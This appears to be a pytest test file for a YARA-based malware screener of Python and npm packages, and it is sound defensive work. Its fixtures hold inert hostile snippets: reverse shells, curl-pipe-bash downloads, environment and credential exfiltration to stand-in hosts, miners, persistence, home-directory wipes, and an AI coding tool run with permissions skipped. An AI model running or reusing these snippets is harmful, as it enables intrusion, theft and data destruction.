"""Known patterns: each rule of ours with what it is for and what it must leave alone, and the admin's folder.

The samples are inert: pieces of text that are never run, with addresses of nobody.
"""

import base64
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sandboxes.screening.detectors import patterns, yara_rules
from sandboxes.screening.findings import Ability, Found, Threat
from sandboxes.screening.package import Kind
from tests.sandboxes.screening.detectors.opened import wheel
from tests.sandboxes.screening.packages import Files, package

BLOB = base64.b64encode(bytes(range(256)) * 6).decode()
HOOK = "https://discord.com/api/webhooks/" + "1" * 18 + "/" + "a" * 40

# Rule, file, content.
MATCHING: list[tuple[str, str, str | bytes]] = [
    (
        "wallet_with_foreign_script",
        "a.js",
        (
            "const e = document.createElement('script'); e.src = 'https://x.test/w.js';\n"
            "window.ethereum.request({ method: 'eth_sendTransaction' })"
        ),
    ),
    ("webhook_for_loot", "a.py", f"requests.post('{HOOK}')"),
    (
        "webhook_for_loot",
        "a.js",
        "fetch('https://api.telegram.org/bot123456789:" + "A" * 35 + "/sendMessage')",
    ),
    ("catcher_of_requests", "a.py", "urlopen('https://webhook.site/0000')"),
    ("catcher_of_requests", "a.py", "socket.gethostbyname('abcdefgh12.oastify.com')"),
    ("tunnel_or_drop", "a.py", "get('https://abc.ngrok-free.app/x')"),
    ("tunnel_or_drop", "a.py", "get('https://pastebin.com/raw/abc')"),
    (
        "browser_stores",
        "a.py",
        "p = 'Google\\\\Chrome\\\\User Data'\nopen('Login Data')\nCryptUnprotectData(x)",
    ),
    ("chat_tokens", "a.py", "p = 'discord/Local Storage/leveldb'\nre.findall(r'dQw4w9WgXcQ:[^\"]*', x)"),
    ("wallets", "a.js", "const ext = 'nkbihfbeogaeaoehlefnkodbefgpgknn'"),
    ("clipboard_swap", "a.py", "import pyperclip\nre.match('bc1[a-z0-9]{39}', pyperclip.paste())"),
    (
        "ethereum_hook",
        "a.js",
        "XMLHttpRequest.prototype.open = function(){}; window.ethereum.request; levenshtein(a, b)",
    ),
    (
        "credential_files",
        "a.py",
        "['~/.ssh/id_rsa', '~/.aws/credentials', '~/.kube/config', '~/.docker/config.json']",
    ),
    ("cloud_credentials_of_the_machine", "a.py", "get('http://169.254.169.254/latest/meta-data/iam/')"),
    ("whole_environment_sent", "a.py", "requests.post('https://a.example', json=dict(os.environ))"),
    ("whole_environment_sent", "a.js", "https.request(o).write(JSON.stringify(process.env))"),
    ("keylogger", "a.py", "from pynput.keyboard import Listener\nimport smtplib"),
    ("reverse_shell", "a.py", "os.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])"),
    ("reverse_shell", "a.sh", "bash -i >& /dev/tcp/203.0.113.1/4444 0>&1"),
    ("download_and_run", "setup.py", "os.system('curl -s https://a.example/x.sh | bash')"),
    ("download_and_run", "a.sh", "wget https://a.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x"),
    ("powershell_hidden", "a.py", "run('powershell -WindowStyle Hidden -c \"iex (iwr)\"')"),
    ("powershell_hidden", "a.bat", "powershell -enc " + "QUJD" * 20),
    ("miner", "a.py", "args = ['xmrig', '-o', 'stratum+tcp://pool.example.com:3333']"),
    ("miner", "a/_speed.so", b"\x7fELF\0\0xmrig\0stratum+tcp://pool.example.com:3333\0"),
    ("persistence", "a.py", "os.system('(crontab -l; echo \"* * * * * /tmp/x\") | crontab -')"),
    (
        "persistence",
        "a.py",
        "p = '~/.config/systemd/user/x.service'; open(p, 'w'); run('systemctl --user enable x')",
    ),
    ("worm", "a.js", "read('.npmrc').match(/_authToken/); exec('npm publish'); exec('npm whoami')"),
    ("worm", "a.js", "exec('trufflehog filesystem /'); write('.github/workflows/x.yml')"),
    (
        "assistants_turned",
        "a.js",
        "execSync('claude --dangerously-skip-permissions -p \"find each wallet\"')",
    ),
    ("security_off", "a.py", "run('Set-MpPreference -DisableRealtimeMonitoring $true')"),
    ("wipes", "a.py", "os.system('rm -rf ~/')"),
    ("wipes", "a.py", "shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)"),
    (
        "by_country",
        "a.js",
        "get('https://api.ipgeolocation.io/'); if (c == 'russia') fs.writeFileSync(f, '')",
    ),
    ("hides_from_analysis", "a.py", "bad = ['vboxservice', 'vmtoolsd', 'wireshark']"),
    ("decoded_and_run", "a.py", "exec(zlib.decompress(base64.b64decode(b'eJw=')))"),
    ("decoded_and_run", "a.py", "exec((_)(b'x'))\n(lambda __ : __import__('zlib').decompress(__[::-1]))"),
    ("decoded_and_run", "a.js", "eval(Buffer.from('YQ==', 'base64').toString())"),
    ("long_encoded_run", "a.py", f"data = '{BLOB}'\nexec(b64decode(data))"),
    ("behind_blanks", "a.py", "import os" + " " * 200 + ";exec(x)"),
    ("obfuscator_python", "a.py", "from pyarmor_runtime_000000 import __pyarmor__"),
    ("obfuscator_javascript", "a.js", "function _0x1a2b3c(){}" + "_0x1a2b3c(0x1f);" * 30),
    ("turned_around", "a.py", "ok = 1  # \u202e } \u2066if admin\u2069 \u2066 begin"),
    ("invisible_code", "a.js", "decode('" + "".join(chr(0xE0100 + number) for number in range(40)) + "')"),
    (
        "packed_binary",
        "a/_speed.so",
        b"\x7fELF\0\0UPX!\0\0$Info: This file is packed with the UPX executable packer",
    ),
    ("module_made_by_hand", "a.js", "var f = new module.constructor();\nf.paths = module.paths;"),
    (
        "data_after_picture",
        "a.py",
        "data = open('logo.png', 'rb').read()\nexec(hidden(data[data.index(b'IEND') + 8:]))",
    ),
    ("data_after_picture", "a.py", "image = Image.open('logo.png')\ncode = lsb.reveal(image)\nexec(code)"),
]

# What good packages have, and what has to be there besides to mean anything.
HARMLESS: list[tuple[str, str, str | bytes]] = [
    ("prose", "a-1.0.dist-info/METADATA", f"Post to {HOOK}; exec(zlib.decompress(x))"),
    ("prose in a README", "README.md", "curl https://a.example/x.sh | bash  # then rm -rf ~/"),
    ("a webhook's shape", "a.py", "url = 'https://discord.com/api/webhooks/{id}/{token}'"),
    ("a bot's library", "a.py", "BASE = 'https://api.telegram.org/bot{token}/{method}'"),
    ("one credential file", "a.py", "path = '~/.aws/credentials'"),
    ("three credential files", "a.py", "['~/.aws/credentials', '~/.kube/config', '~/.docker/config.json']"),
    ("the environment used", "a.py", "subprocess.run(args, env=os.environ.copy())\nenv = dict(os.environ)"),
    ("one variable sent", "a.py", "requests.post(url, data=os.environ['BODY'])"),
    ("the environment shown", "a.js", "console.log(JSON.stringify(process.env))"),
    ("clipboard alone", "a.py", "import pyperclip\npyperclip.copy(text)"),
    ("an address alone", "a.py", "ETH = re.compile('0x[a-fA-F0-9]{40}')"),
    ("a shell for a terminal", "a.py", "pty.spawn('/bin/sh')"),
    ("the metadata server's name", "a.py", "IP_ADDRESS = '169.254.170.2'"),
    ("decompressed, not run", "a.py", "data = zlib.decompress(base64.b64decode(x))\nexec(code)"),
    ("a long text, not run", "a.py", f"LOGO = '{BLOB}'\nshow(b64decode(LOGO))"),
    ("a long text and an exec of names", "a.py", f"LOGO = '{BLOB}'\nexec(code)"),
    ("an aligned comment", "a.py", "x = 1" + " " * 150 + "# import os"),
    ("minified, not obfuscated", "a.min.js", "function a(b){return b._0x1(0x1)}" * 50),
    ("a table of characters", "a.js", "/[\u202a-\u202e\u2060-\u2064\u2066-\u206f]/"),
    ("an emoji's selector", "a.py", "HEART = '\u2764\ufe0f\u2764\ufe0f'"),
    ("a binary", "a/_speed.so", b"\x7fELF\0\0" + b"UPXA" * 10 + b"xmrigger"),
    ("a temporary folder deleted", "a.py", "shutil.rmtree(folder)\nos.system('rm -rf /tmp/build')"),
    ("a startup folder named", "a.py", "MENU = 'Start Menu/Programs/Startup'"),
    ("a pool of workers", "a.py", "pool = ThreadPool(8)\nurl = 'redis+tcp://pool.example.com:6379'"),
    ("its own module used", "a.js", "const Module = module.constructor; Module._load(id)"),
    ("a picture's end found", "a.py", "data = open('logo.png', 'rb').read()\nassert b'IEND' in data"),
    ("npm used", "a.js", "exec('npm publish')"),
    (
        "a picture's own eval",
        "a.py",
        "def eval(image, *rest):\n    return image\n\n\nImage.open('a.png').getpixel((0, 0))",
    ),
    ("a picture opened", "a.py", "image = Image.open('logo.png')\nimage.getpixel((0, 0))"),
]


def looked(files: Files) -> list[Found]:
    return list(yara_rules.look(package(files), None))


@pytest.mark.parametrize(("rule", "path", "content"), MATCHING, ids=[row[0] for row in MATCHING])
def test_a_rule_matches_what_it_is_for(rule: str, path: str, content: str | bytes) -> None:
    assert f"yara.{rule}" in {found.rule for found in looked({path: content})}


@pytest.mark.parametrize(("path", "content"), [row[1:] for row in HARMLESS], ids=[row[0] for row in HARMLESS])
def test_what_is_harmless_matches_nothing(path: str, content: str | bytes) -> None:
    assert looked({path: content}) == []


DOCSTRING = 'def f(x):\n    """Adds.\n\n    f("https://webhook.site/1")\n    """\n'
UPDATE = "def update():\n    subprocess.run(['bash', '-c', 'curl -s https://x.test/a.sh | bash'])\n"


@pytest.mark.parametrize(
    ("code", "rule", "threat"),
    [
        (DOCSTRING, "catcher_of_requests", Threat.LOW),
        ("# as https://webhook.site/1 shows\nf(1)", "catcher_of_requests", Threat.LOW),
        (DOCSTRING + "    send(f.__doc__)\n", "catcher_of_requests", Threat.HIGH),
        ("U = '''\nhttps://webhook.site/1\n'''", "catcher_of_requests", Threat.HIGH),
        ("'''x\n'''; f('https://webhook.site/1')", "catcher_of_requests", Threat.HIGH),
        ("f('https://webhook.site/1'", "catcher_of_requests", Threat.HIGH),  # does not parse
        ("f('https://webhook.site/1'); 'x'", "catcher_of_requests", Threat.HIGH),
        ("U = '''\n# https://webhook.site/1\n'''", "catcher_of_requests", Threat.HIGH),
        (
            "def f(x=run(\n'curl https://x.test/a.sh | bash'), y=exec(1)):\n    pass",
            "download_and_run",
            Threat.HIGH,
        ),
        (UPDATE, "download_and_run", Threat.MEDIUM),
        (DOCSTRING + "send('https://webhook.site/2')\n", "catcher_of_requests", Threat.HIGH),
        (UPDATE.split("\n")[1].strip(), "download_and_run", Threat.HIGH),
    ],
)
def test_where_it_stands_counts(code: str, rule: str, threat: Threat) -> None:
    (found,) = looked({"a.py": code})
    assert (found.rule, found.threat) == (f"yara.{rule}", threat)


def ours() -> list[tuple[str, dict[str, object]]]:
    return [(rule.identifier, dict(rule.metadata)) for rule in patterns.read(None).rules]


def test_every_rule_of_ours_is_tried_here() -> None:
    assert {name for name, _ in ours()} == {row[0] for row in MATCHING}


@pytest.mark.parametrize(("name", "meta"), ours(), ids=[row[0] for row in ours()])
def test_every_rule_of_ours_says_what_it_means(name: str, meta: dict[str, str]) -> None:
    assert Ability(meta["ability"])
    assert Threat(meta["threat"])
    assert meta["description"].endswith(".")
    assert meta.get("files", "code") in ("code", "native", "any")


def test_a_finding_names_file_line_and_words(tmp_path: Path) -> None:
    code = "import os\n\n\nos.system('rm -rf ~/')  # gone\n"
    (found,) = yara_rules.look(wheel(tmp_path, {"thing/a.py": code}), None)
    assert (found.rule, found.path, found.line) == ("yara.wipes", "thing/a.py", 4)
    assert found.excerpt == "os.system('rm -rf ~/')  # gone"
    assert (found.ability, found.threat) == (Ability.FILES, Threat.CRITICAL)


def test_a_line_of_a_megabyte_is_told_in_a_few_words() -> None:
    (found,) = looked({"a.js": "x" * 500_000 + ";fetch('https://webhook.site/1');" + "y" * 500_000})
    assert len(found.excerpt) <= 300
    assert "https://webhook.site/1" in found.excerpt


@given(st.binary(max_size=4096), st.sampled_from(["a.py", "a.js", "a.so", "a"]))
@settings(max_examples=50)
def test_any_bytes_are_taken(content: bytes, path: str) -> None:
    for found in looked({path: content}):
        assert found.path == path


# The admin's folder


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """Of the admin's; what this process has compiled is forgotten before and after."""
    made = tmp_path / "rules"
    made.mkdir()
    monkeypatch.setenv("SCREENING_RULES", str(made))
    _forget()
    yield made
    _forget()


def _forget() -> None:
    patterns.compiled.cache_clear()
    yara_rules._scanner.cache_clear()


ACME = """
rule acme_secret {
    meta:
        description = "It has a project's code name."
        ability = "secrets"
        threat = "high"
    strings:
        $name = "PROJECT-ZEBRA"
    condition:
        $name
}
"""


def test_the_admins_rules_are_looked_for_beside_ours(folder: Path) -> None:
    (folder / "acme.yar").write_text(ACME)
    found = looked({"README.md": "about PROJECT-ZEBRA", "a.py": "run('rm -rf ~/')"})
    assert {(each.rule, each.path) for each in found} == {
        ("yara.acme.acme_secret", "README.md"),
        ("yara.wipes", "a.py"),
    }
    assert (found[0].ability, found[0].threat) == (Ability.SECRETS, Threat.HIGH)
    assert patterns.read(folder).problems == ()


def test_a_rule_that_says_nothing_is_of_medium_threat(folder: Path) -> None:
    (folder / "bare.yara").write_text(
        'rule bare { meta: ability = "x" threat = 3 strings: $a = "zebra" condition: $a }'
    )
    (found,) = looked({"a.txt": "zebra"})
    assert (found.ability, found.threat) == (Ability.CONTENT, Threat.MEDIUM)
    assert found.why == "It matches the rule bare of bare.yara."


BROKEN: list[tuple[str, bytes, str]] = [
    ("unfinished", b"rule broken {", "syntax error"),
    ("unknown name", b"rule broken { condition: $a }", "unknown pattern"),
    (
        "its second rule",
        b"rule fine { condition: true } rule broken { condition: nothing }",
        "unknown identifier",
    ),
    ("no text", b"\xff\xfe\x00", "codec"),
    ("another file read", b'include "/etc/passwd"', "include"),
]


@pytest.mark.parametrize(("content", "said"), [row[1:] for row in BROKEN], ids=[row[0] for row in BROKEN])
def test_a_broken_file_is_left_out_and_told(
    content: bytes, said: str, folder: Path, caplog: pytest.LogCaptureFixture
) -> None:
    (folder / "acme.yar").write_text(ACME)
    (folder / "broken.yar").write_bytes(content)
    found = looked({"a.py": "PROJECT-ZEBRA"})
    assert [each.rule for each in found] == ["yara.acme.acme_secret"]
    (problem,) = patterns.read(folder).problems
    assert problem.file == "broken.yar"
    assert said in problem.message.lower()
    assert str(problem) in caplog.text


def test_two_files_may_have_a_rule_of_the_same_name(folder: Path) -> None:
    (folder / "one.yar").write_text(ACME)
    (folder / "two.yar").write_text(ACME)
    assert {each.rule for each in looked({"a": "PROJECT-ZEBRA"})} == {
        "yara.one.acme_secret",
        "yara.two.acme_secret",
    }


def test_a_problem_is_gone_once_it_is_mended(folder: Path) -> None:
    (folder / "acme.yar").write_text("rule")
    assert len(patterns.read(folder).problems) == 1
    (folder / "acme.yar").write_text(ACME)
    assert patterns.read(folder).problems == ()


def test_what_is_no_file_of_rules_is_not_read(folder: Path) -> None:
    (folder / "README.md").write_text("rule")
    (folder / "folder.yar").mkdir()
    os.mkfifo(folder / "pipe.yar")
    assert patterns.read(folder).problems == ()


def test_a_folder_that_is_not_there_is_told(folder: Path) -> None:
    folder.rmdir()
    (problem,) = patterns.read(folder).problems
    assert "No such file" in problem.message
    assert looked({"a.py": "run('rm -rf ~/')"}) != []


def test_a_rule_that_takes_too_long_is_told_and_the_rest_goes_on(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (folder / "slow.yar").write_text(
        "rule slow { condition: for any i in (0..100000000000) : ( uint8(i % 7) == 300 ) }"
    )
    monkeypatch.setattr(yara_rules, "SECONDS", 1)
    (found,) = looked({"a.py": "zebra"})
    assert (found.rule, found.path) == ("yara.unfinished", "a.py")


def test_there_is_an_end_to_all_members_together(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(yara_rules, "ALTOGETHER", -1.0)
    (found,) = looked({"a.py": "run('rm -rf ~/')", "b.py": ""})
    assert (found.rule, found.path) == ("yara.unfinished", "a.py")


SHELL = "nc -e /bin/sh 192.0.2.1 4444"


@pytest.mark.parametrize(
    ("path", "threat"),
    [
        ("a.py", Threat.CRITICAL),
        ("a.sh", Threat.CRITICAL),
        ("thing/words.yaml", Threat.MEDIUM),
        ("thing/words.json", Threat.MEDIUM),
        ("package.json", Threat.CRITICAL),
        ("thing/static/page.js", Threat.MEDIUM),
    ],
)
def test_a_rule_says_less_where_no_interpreter_gets_to(path: str, threat: Threat) -> None:
    [found] = yara_rules.look(package({path: f"# {SHELL}\n"}), None)
    assert (found.rule, found.threat) == ("yara.reverse_shell", threat)


def test_javascript_of_an_npm_package_is_run() -> None:
    [found] = yara_rules.look(package({"a.js": f"// {SHELL}\n"}, Kind.NPM), None)
    assert found.threat is Threat.CRITICAL


@pytest.mark.parametrize(("code", "runs"), [("eval(x)", True), ("/a/.exec(x)", False)])
def test_a_method_named_exec_runs_nothing(code: str, runs: bool) -> None:
    text = f"const a = '{BLOB}';\nconst b = atob(a);\n; {code}\n"
    rules = {found.rule for found in yara_rules.look(package({"a.js": text}, Kind.NPM), None)}
    assert ("yara.long_encoded_run" in rules) is runs
